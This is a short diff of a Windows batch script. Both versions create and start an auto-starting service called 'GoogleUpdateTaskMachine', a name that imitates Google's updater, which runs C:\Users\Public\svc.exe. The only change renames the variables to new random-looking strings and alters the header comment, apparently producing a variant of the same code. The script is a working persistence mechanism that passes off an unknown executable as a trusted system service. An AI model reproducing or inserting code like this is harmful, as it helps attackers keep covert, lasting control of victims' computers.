@@ -1,7 +1,7 @@
-REM bootstrap 9448 v0
+REM run 9102 v0
 @echo off
-set zwhg=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-call %zwhg%
+set soqu=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+call %soqu%
 @echo off
-set dxge=sc start GoogleUpdateTaskMachine
-call %dxge%
+set mecy=sc start GoogleUpdateTaskMachine
+call %mecy%
